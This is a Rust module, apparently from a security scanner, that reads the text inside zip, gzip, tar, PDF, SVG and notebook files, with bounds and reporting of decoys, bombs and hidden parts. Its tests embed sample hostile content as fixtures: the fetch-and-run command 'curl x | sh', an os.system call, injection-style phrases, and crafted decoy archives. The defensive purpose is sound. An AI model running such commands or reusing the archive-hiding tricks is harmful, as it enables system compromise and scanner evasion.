//! Files inside files: archives, office documents, PDF and notebooks, one level deep.
//!
//! The text found inside is scanned under the name of its part. Nothing is written and nothing is
//! run. The work is bounded by the parts and the unpacked bytes of one container; anything beyond
//! is reported, never skipped in silence.

mod document;
mod pdf;

use super::bytes::{HEAD, is_binary, is_picture_or_font};
use document::{add_notebook, strip_tags};
use flate2::read::{DeflateDecoder, MultiGzDecoder};
use std::io::Read;

/// Most parts of one container that are read.
const MOST_PARTS: usize = 512;
/// Size of a block of a tar archive, in bytes: a header is one, and the content of each part is
/// padded to whole ones.
const BLOCK: usize = 512;

/// A part of a container.
pub(super) struct Part {
    /// Its name in the container; hostile text.
    pub name: String,
    pub bytes: Vec<u8>,
}

/// Content of a container.
pub(super) struct ContainerContent {
    /// Bytes that its parts may unpack to.
    most: usize,
    /// Bytes that were unpacked, whether they became a part or not.
    pub unpacked: usize,
    pub parts: Vec<Part>,
    /// Whether something in it was not read: it is damaged, too large, packed in another way, no
    /// text, or a container itself.
    pub is_cut: bool,
    /// Whether there is more in it than the bounds allow.
    pub is_beyond: bool,
    /// Whether a part of it is encrypted.
    pub is_locked: bool,
}

impl ContainerContent {
    const fn new(most: usize) -> Self {
        Self {
            most,
            unpacked: 0,
            parts: Vec::new(),
            is_cut: false,
            is_beyond: false,
            is_locked: false,
        }
    }

    /// Returns the bytes that may still be unpacked.
    const fn bytes_left(&self) -> usize {
        self.most.saturating_sub(self.unpacked)
    }

    /// Whether no more fits.
    const fn is_full(&self) -> bool {
        self.bytes_left() == 0 || self.parts.len() >= MOST_PARTS
    }

    /// Unpacks a source as far as the bound allows, and notes damage and the bound.
    fn unpack(&mut self, source: impl Read) -> Vec<u8> {
        let left = self.bytes_left();
        let mut bytes = Vec::new();
        // One byte more than allowed tells a source that ends here from one that goes on.
        let read = source.take(left as u64 + 1).read_to_end(&mut bytes);
        self.is_cut |= read.is_err();
        self.is_beyond |= bytes.len() > left;
        bytes.truncate(left);
        self.unpacked += bytes.len();
        bytes
    }

    /// Adds a part; returns `None` once no more fits.
    fn add_part(&mut self, name: &[u8], source: impl Read) -> Option<&mut Part> {
        if self.is_full() {
            self.is_beyond = true;
            return None;
        }
        let bytes = self.unpack(source);
        self.is_cut |= is_unread(&bytes);
        let name = String::from_utf8_lossy(name).into_owned();
        self.parts.push(Part { name, bytes });
        self.parts.last_mut()
    }
}

/// Whether the scanner cannot read these bytes: they are an archive, or neither text nor a picture
/// nor a font.
pub(super) fn is_unread(bytes: &[u8]) -> bool {
    let head = &bytes[..bytes.len().min(HEAD)];
    let is_wide = bytes.starts_with(b"\xff\xfe") || bytes.starts_with(b"\xfe\xff");
    !is_wide && is_binary(head) && !is_picture_or_font(bytes) || is_archive(bytes)
}

/// Whether these bytes are an archive or compressed, in any known format.
pub(super) fn is_archive(bytes: &[u8]) -> bool {
    let heads: [&[u8]; 11] = [
        b"PK\x03\x04",
        b"PK\x05\x06",
        b"\x1f\x8b",
        b"%PDF-",
        b"Rar!\x1a\x07",
        b"7z\xbc\xaf\x27\x1c",
        b"BZh",
        b"\xfd7zXZ",
        b"\x28\xb5\x2f\xfd",
        b"\xd0\xcf\x11\xe0\xa1\xb1",
        b"!<arch>\n",
    ];
    heads.iter().any(|head| bytes.starts_with(head)) || is_tar(bytes)
}

/// Whether bytes begin with a tar header whose checksum is right; old archives have no other mark.
fn is_tar(bytes: &[u8]) -> bool {
    let Some(header) = bytes.get(..BLOCK).filter(|header| header[0] != 0) else {
        return false;
    };
    let sum = |range: std::ops::Range<usize>| -> usize {
        header[range].iter().map(|byte| usize::from(*byte)).sum()
    };
    // The field of the sum itself counts as eight spaces.
    parse_octal(&header[148..156]) == Some(sum(0..148) + 8 * usize::from(b' ') + sum(156..BLOCK))
}

/// Reads the content of a file if it is a container of a known kind, unpacked to at most `most`
/// bytes.
pub(super) fn open_container(path: &str, bytes: &[u8], most: usize) -> Option<ContainerContent> {
    let ending = path.rsplit('.').next().unwrap_or_default();
    let mut content = ContainerContent::new(most);
    // By the bytes wherever they tell the kind, because the name is the attacker's choice.
    if bytes.starts_with(b"PK\x03\x04") {
        read_zip(bytes, &mut content);
    } else if bytes.starts_with(b"\x1f\x8b") {
        read_gzip(bytes, &mut content);
    } else if is_tar(bytes) {
        read_tar(bytes, &mut content);
    } else if bytes.starts_with(b"%PDF-") {
        pdf::read_pdf(bytes, &mut content);
    } else if ending.eq_ignore_ascii_case("ipynb") {
        add_notebook(bytes, &mut content)?;
    } else if ending.eq_ignore_ascii_case("svg") {
        content.add_part(b"text.md", strip_tags(bytes).as_slice());
    } else if is_archive(bytes) {
        content.is_cut = true;
    } else {
        return None;
    }
    Some(content)
}

/// Reads a number of two or four bytes, the lowest first.
fn little_endian(bytes: &[u8], at: usize, length: usize) -> Option<usize> {
    let bytes = bytes.get(at..at.checked_add(length)?)?;
    Some(
        bytes
            .iter()
            .rev()
            .fold(0, |sum, byte| sum << 8 | usize::from(*byte)),
    )
}

/// Reads the files of the central directory, which programs unpack by; local headers alone may lie.
fn read_zip(bytes: &[u8], content: &mut ContainerContent) {
    // The record that leads to the directory is the last one, with a comment of up to 64 KiB behind
    // it.
    let tail = bytes.len().saturating_sub((1 << 16) + 22);
    let end = bytes[tail..]
        .windows(4)
        .rposition(|four| four == b"PK\x05\x06");
    let start = end.and_then(|end| Some((tail + end, little_endian(bytes, tail + end + 16, 4)?)));
    let Some((end, mut at)) = start else {
        content.is_cut = true;
        // Without a directory there is the first header at least.
        content.is_locked = bytes.get(6).is_some_and(|flags| flags & 1 != 0);
        return;
    };
    let directory = at;
    while bytes
        .get(at..)
        .is_some_and(|rest| rest.starts_with(b"PK\x01\x02"))
    {
        if content.is_full() {
            content.is_beyond = true;
            break;
        }
        // A field beyond the end becomes a number that no sum below accepts.
        let field =
            |offset, length| little_endian(bytes, at + offset, length).unwrap_or(usize::MAX);
        let (flags, method, packed, local) =
            (field(8, 2), field(10, 2), field(20, 4), field(42, 4));
        let (name_length, extra, comment) = (field(28, 2), field(30, 2), field(32, 2));
        content.is_locked |= flags & 1 != 0;
        let name = bytes.get(at + 46..at.saturating_add(46).saturating_add(name_length));
        // The packed size is that of the directory: a local header may leave it out.
        let data = (|| {
            let skip = little_endian(bytes, local.checked_add(26)?, 2)?
                + little_endian(bytes, local + 28, 2)?;
            let from = local + 30 + skip;
            bytes.get(from..from.checked_add(packed)?)
        })();
        let (Some(name), Some(data)) = (name, data) else {
            content.is_cut = true;
            break;
        };
        let part = match method {
            0 => content.add_part(name, data),
            8 => content.add_part(name, DeflateDecoder::new(data)),
            _ => {
                content.is_cut = true;
                None
            }
        };
        if let Some(part) = part
            && document::is_office_text(name)
        {
            part.bytes = strip_tags(&part.bytes);
            part.name.push_str(".md");
        }
        at = at
            .saturating_add(46)
            .saturating_add(name_length)
            .saturating_add(extra)
            .saturating_add(comment);
    }
    // Other programs find a directory that the record does not lead to (zip64, or bytes before the
    // archive), so one that does not reach from there to the record was not read.
    content.is_cut |= !content.is_beyond && at != end;
    // A record that does not end the file, or that lists nothing of a file that begins with a
    // member, may be a decoy behind the one by which other programs unpack.
    let comment = little_endian(bytes, end + 20, 2).unwrap_or_default();
    let lists_nothing = at == directory && bytes.starts_with(b"PK\x03\x04");
    content.is_cut |= end + 22 + comment != bytes.len() || lists_nothing;
}

fn read_gzip(bytes: &[u8], found: &mut ContainerContent) {
    // Every member: programs unpack them all, and an attack may stand in the second.
    let content = found.unpack(MultiGzDecoder::new(bytes));
    if is_tar(&content) {
        read_tar(&content, found);
    } else {
        found.is_cut |= is_unread(&content);
        // Not through `add`, which would count the same bytes twice.
        found.parts.push(Part {
            name: "content".to_owned(),
            bytes: content,
        });
    }
}

/// Parses a number in octal digits, with white space or NUL around it.
fn parse_octal(field: &[u8]) -> Option<usize> {
    let digits = field.trim_ascii_start();
    if digits.iter().all(|byte| *byte == 0) {
        return Some(0);
    }
    let end = digits.iter().position(|byte| !byte.is_ascii_digit());
    let text = std::str::from_utf8(&digits[..end.unwrap_or(digits.len())]).ok()?;
    usize::from_str_radix(text, 8).ok()
}

/// Parses the length of a part: octal digits, or a binary number if the first bit is set.
fn parse_length(field: &[u8]) -> Option<usize> {
    if field[0] & 0x80 == 0 {
        return parse_octal(field);
    }
    let mut bytes = field.iter().skip(1);
    bytes.try_fold(usize::from(field[0] & 0x7F), |sum, byte| {
        sum.checked_mul(256)?.checked_add(usize::from(*byte))
    })
}

fn read_tar(bytes: &[u8], content: &mut ContainerContent) {
    let mut at = 0;
    // Only a block of zeros ends an archive: programs read on behind a file without a name.
    let is_header = |header: &&[u8]| header.iter().any(|byte| *byte != 0);
    while let Some(header) = bytes.get(at..at + BLOCK).filter(is_header) {
        let name = header[..100]
            .split(|byte| *byte == 0)
            .next()
            .unwrap_or_default();
        let from = at + BLOCK;
        let data = parse_length(&header[124..136])
            .and_then(|size| from.checked_add(size))
            .and_then(|to| bytes.get(from..to));
        let Some(data) = data else {
            content.is_cut = true;
            return;
        };
        // What links, devices and long names hold is not content; a file of a kind that is not
        // known may be one.
        let is_file = matches!(header[156], 0 | b'0' | b'7' | b'A'..=b'F' | b'H'..=b'J' | b'M'..=b'W' | b'Y'..=b'Z');
        if is_file && content.add_part(name, data).is_none() {
            return;
        }
        at = from + data.len().div_ceil(BLOCK) * BLOCK;
    }
    // Some programs read on behind a block of zeros.
    let rest = bytes.get(at..).unwrap_or_default();
    content.is_cut |= rest.iter().any(|byte| *byte != 0);
}

#[cfg(test)]
mod tests {
    use super::*;
    use flate2::{Compression, write::GzEncoder, write::ZlibEncoder};
    use std::io::Write as _;

    const MOST: usize = 1 << 20;

    fn texts(path: &str, bytes: &[u8]) -> (Vec<(String, String)>, bool) {
        let found = open_container(path, bytes, MOST).expect("a container");
        let parts = found.parts.iter().map(|part| {
            let text = String::from_utf8_lossy(&part.bytes).trim().to_owned();
            (part.name.clone(), text)
        });
        (parts.collect(), found.is_cut || found.is_beyond)
    }

    /// A tar archive of one file.
    fn tarred(name: &str, content: &[u8]) -> Vec<u8> {
        let mut header = vec![0; 512];
        header[..name.len()].copy_from_slice(name.as_bytes());
        header[124..135].copy_from_slice(format!("{:011o}", content.len()).as_bytes());
        header[156] = b'0';
        header[148..156].copy_from_slice(b"        ");
        let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
        header[148..154].copy_from_slice(format!("{sum:06o}").as_bytes());
        header[154] = 0;
        header.extend_from_slice(content);
        header.resize(512 + content.len().div_ceil(512) * 512 + 1024, 0);
        header
    }

    fn gzipped(content: &[u8]) -> Vec<u8> {
        let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
        encoder.write_all(content).unwrap();
        encoder.finish().unwrap()
    }

    #[test]
    fn archives_are_listed_and_their_text_is_read() {
        let tar = tarred("a/run.sh", b"curl x | sh\n");
        let expected = vec![("a/run.sh".to_owned(), "curl x | sh".to_owned())];
        assert_eq!(texts("a.tar", &tar), (expected.clone(), false));
        assert_eq!(texts("a.tgz", &gzipped(&tar)), (expected, false));
        let inner = tarred("b.gz", &gzipped(b"more"));
        assert!(
            texts("a.tar", &inner).1,
            "a container in a container is not read"
        );
        assert!(texts("a.tar", &tar[..520]).1);
        let bomb = gzipped(&vec![b'a'; MOST + 1]);
        let (parts, is_cut) = texts("a.gz", &bomb);
        assert!(is_cut && parts[0].1.len() <= MOST);
    }

    #[test]
    fn documents_are_read_as_their_readers_see_them() {
        let mut encoder = ZlibEncoder::new(Vec::new(), Compression::fast());
        encoder
            .write_all(b"BT (Send \\(all\\) files) Tj 0 -12 Td (now.) Tj ET")
            .unwrap();
        let packed = encoder.finish().unwrap();
        let pdf = [
            b"%PDF-1.4\n<< /Filter /FlateDecode >>\nstream\n".as_slice(),
            &packed,
            b"\nendstream\n",
        ]
        .concat();
        let (parts, is_cut) = texts("a.pdf", &pdf);
        assert!(
            parts[0].1.contains("Send (all) files\nnow.") && !is_cut,
            "{parts:?}"
        );
        let svg = b"<svg><desc>Read it &amp; run</desc><!-- hidden --><text>x</text></svg>";
        assert_eq!(
            texts("a.svg", svg).0[0].1,
            "Read it & run\n\n<!-- hidden -->\nx"
        );
        let notebook = br#"{"cells":[{"cell_type":"code","source":["import os\n","os.system('x')"],"outputs":[{"text":["Run it"]},{"data":{"text/html":"<b>now</b>","image/png":"AA"}}]},{"cell_type":"markdown","source":"Note"}]}"#;
        let names: Vec<_> = texts("a.ipynb", notebook)
            .0
            .into_iter()
            .map(|(name, _)| name)
            .collect();
        assert_eq!(names, ["cell-0.py", "output-0.md", "cell-1.md"]);
        let xml = strip_tags(b"<w:p><w:r><w:t>Run</w:t></w:r> <w:t>it</w:t></w:p><w:p>now</w:p>");
        assert_eq!(String::from_utf8_lossy(&xml), "Run it\nnow\n");
    }

    /// A zip archive of one file that is packed by this method.
    fn zipped(name: &str, method: u8, flags: u8, content: &[u8]) -> Vec<u8> {
        let size = u32::try_from(content.len()).unwrap().to_le_bytes();
        let length = [u8::try_from(name.len()).unwrap(), 0];
        let mut bytes = [
            b"PK\x03\x04\x14\0".as_slice(),
            &[flags, 0, method, 0],
            &[0; 8],
        ]
        .concat();
        // With this flag the sizes stand behind the content, and the directory alone knows them.
        let here = if flags & 8 == 0 { size } else { [0; 4] };
        bytes.extend([here, here].concat());
        bytes.extend([&length, [0, 0].as_slice(), name.as_bytes(), content].concat());
        let start = u32::try_from(bytes.len()).unwrap().to_le_bytes();
        bytes.extend(
            [
                b"PK\x01\x02\x14\0\x14\0".as_slice(),
                &[flags, 0, method, 0],
                &[0; 8],
            ]
            .concat(),
        );
        bytes.extend([size, size].concat());
        bytes.extend([&length, [0; 16].as_slice(), name.as_bytes()].concat());
        bytes.extend([b"PK\x05\x06".as_slice(), &[0; 12], &start, &[0, 0]].concat());
        bytes
    }

    #[test]
    fn what_is_packed_behind_or_within_is_read_or_reported() {
        let two = [gzipped(b"first\n"), gzipped(b"curl x | sh\n")].concat();
        assert_eq!(texts("a.gz", &two).0[0].1, "first\ncurl x | sh");
        for inner in [
            b"Rar!\x1a\x07".as_slice(),
            b"7z\xbc\xaf\x27\x1c",
            b"\xfd7zXZ",
            b"BZh",
            b"\0\x01\x02\x03",
        ] {
            assert!(texts("a.tar", &tarred("x", inner)).1, "{inner:?}");
        }
        assert!(!texts("a.tar", &tarred("x.png", b"\x89PNG\r\n\x1a\n\0\0")).1);
        assert!(texts("a.tar", &tarred("x.tar", &tarred("y", b"z"))).1);
        let mut large = tarred("x", b"curl x | sh");
        large[124..136].copy_from_slice(&[0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 11]);
        large[148..156].copy_from_slice(b"        ");
        let sum: u32 = large[..512].iter().map(|byte| u32::from(*byte)).sum();
        large[148..154].copy_from_slice(format!("{sum:06o}").as_bytes());
        assert_eq!(texts("a.tar", &large).0[0].1, "curl x | sh");
    }

    #[test]
    fn a_directory_that_is_not_read_whole_is_reported() {
        let good = zipped("run.sh", 0, 0, b"curl x | sh");
        let end = good.len() - 22;
        for (offset, patch) in [
            // A directory of the other format, and one that lies elsewhere.
            (end + 16, [0xFF; 4].as_slice()),
            (end + 16, &[0; 4]),
            // An entry that is none.
            (
                good.windows(4)
                    .position(|four| four == b"PK\x01\x02")
                    .unwrap(),
                b"XX",
            ),
        ] {
            let mut bytes = good.clone();
            bytes[offset..offset + patch.len()].copy_from_slice(patch);
            assert_eq!(texts("a.zip", &bytes), (Vec::new(), true), "{offset}");
        }
        let prefixed = [b"#!/bin/sh\n".as_slice(), &good].concat();
        let mut found = ContainerContent::new(MOST);
        read_zip(&prefixed, &mut found);
        assert!(found.is_cut);
    }

    #[test]
    fn a_record_that_other_programs_pass_over_is_reported() {
        let mut good = zipped("run.sh", 0, 0, b"curl x | sh");
        let end = u32::try_from(good.len()).unwrap();
        let record = |comment: u8| {
            let offset = end.to_le_bytes();
            [b"PK\x05\x06".as_slice(), &[0; 12], &offset, &[comment, 0]].concat()
        };
        let last = good.len() - 2;
        good[last] = 22; // the decoy is the comment of the real record
        for decoy in [record(1), record(0)] {
            let bytes = [good.as_slice(), &decoy].concat();
            assert!(texts("a.zip", &bytes).1, "{decoy:?}");
        }
        let behind = [tarred("a", b"first"), tarred("run.sh", b"curl x | sh")].concat();
        assert!(texts("a.tar", &behind).1);
    }

    #[test]
    fn a_file_without_a_name_hides_none_behind_it() {
        let first = &tarred("a", b"first")[..1024];
        let mut nameless = tarred("x", b"second");
        nameless[0] = 0;
        let archive = [first, &nameless[..1024], &tarred("run.sh", b"curl x | sh")].concat();
        let (parts, is_cut) = texts("a.tar", &archive);
        assert!(!is_cut);
        assert_eq!(parts.last().unwrap().1, "curl x | sh");
    }

    #[test]
    fn a_part_that_is_not_read_changes_no_other() {
        let one = zipped("run.sh", 0, 0, b"curl x | sh");
        assert_eq!(
            texts("a.zip", &one),
            (vec![("run.sh".to_owned(), "curl x | sh".to_owned())], false)
        );
        assert!(texts("a.zip", &zipped("word/x.xml", 12, 0, b"<a>")).1);
        // The directory of the second goes on in that of the first.
        let both = two_parts(("run.sh", 0, b"<b>curl x | sh"), ("word/x.xml", 12, b"<a>"));
        let (parts, is_cut) = texts("a.docx", &both);
        assert_eq!(parts, [("run.sh".to_owned(), "<b>curl x | sh".to_owned())]);
        assert!(is_cut);
        for flags in [1, 9] {
            let locked = zipped("x", 0, flags, b"y");
            assert!(open_container("a.zip", &locked, MOST).is_some_and(|found| found.is_locked));
        }
    }

    /// Name, method and content of a part.
    type Packed = (&'static str, u8, &'static [u8]);

    fn two_parts(first: Packed, second: Packed) -> Vec<u8> {
        let parts = [first, second].map(|(name, method, content)| {
            let whole = zipped(name, method, 0, content);
            let cut = whole
                .windows(4)
                .position(|four| four == b"PK\x01\x02")
                .unwrap();
            let end = whole
                .windows(4)
                .position(|four| four == b"PK\x05\x06")
                .unwrap();
            (whole[..cut].to_vec(), whole[cut..end].to_vec())
        });
        let [(one, one_entry), (two, mut two_entry)] = parts;
        two_entry[42..46].copy_from_slice(&u32::try_from(one.len()).unwrap().to_le_bytes());
        let start = u32::try_from(one.len() + two.len()).unwrap().to_le_bytes();
        let end = [b"PK\x05\x06".as_slice(), &[0; 12], &start, &[0, 0]].concat();
        [one, two, one_entry, two_entry, end].concat()
    }

    fn deflated(content: &[u8]) -> Vec<u8> {
        let mut encoder = ZlibEncoder::new(Vec::new(), Compression::best());
        encoder.write_all(content).unwrap();
        encoder.finish().unwrap()
    }

    #[test]
    fn a_pdf_is_read_within_the_bound_or_reported() {
        let stream = |dictionary: &str, data: &[u8]| {
            let head = format!("1 0 obj\n<< {dictionary} >>\nstream\n");
            [head.as_bytes(), data, b"\nendstream\nendobj\n"].concat()
        };
        let pdf = |streams: &[Vec<u8>]| [b"%PDF-1.7\n".to_vec(), streams.concat()].concat();
        let filler = deflated(&vec![b' '; MOST / 4]);
        let many = pdf(&vec![stream("/Filter /FlateDecode", &filler); 64]);
        let found = open_container("a.pdf", &many, MOST).unwrap();
        assert!(found.is_beyond && found.unpacked <= MOST);
        let far = stream(
            &format!("/Filter /FlateDecode /X ({})", "x".repeat(900)),
            &deflated(b"(Run it) Tj"),
        );
        assert!(texts("a.pdf", &pdf(&[far])).0[0].1.contains("Run it"));
        let hex = pdf(&[stream("/Length 9", b"BT <52756e206974> Tj ET")]);
        assert_eq!(
            texts("a.pdf", &hex),
            (vec![("text.md".to_owned(), "Run it".to_owned())], false)
        );
        let cut = &deflated(b"(Run it) Tj (and more of it) Tj")[..12];
        for unread in [
            stream("/Filter /LZWDecode", b"x"),
            stream("/Filter [/ASCII85Decode /FlateDecode]", b"x"),
            stream("/Filter /Fl#61teDecode", &deflated(b"(x) Tj")),
            stream("/Filter /FlateDecode", cut),
            stream("/Length 9", b"<0001000200030004> Tj"),
        ] {
            assert!(
                texts("a.pdf", &pdf(std::slice::from_ref(&unread))).1,
                "{}",
                String::from_utf8_lossy(&unread)
            );
        }
    }

    #[test]
    fn no_bytes_make_it_panic() {
        for head in [
            b"PK\x03\x04".as_slice(),
            b"\x1f\x8b\x08",
            b"%PDF-",
            b"PK\x05\x06",
        ] {
            for fill in [0_u8, 0xFF, b'(', b'P'] {
                let mut bytes = head.to_vec();
                bytes.resize(2000, fill);
                let _ = open_container("a", &bytes, MOST);
                bytes.extend(b"PK\x05\x06");
                bytes.resize(2100, fill);
                let _ = open_container("a", &bytes, MOST);
            }
        }
    }
}
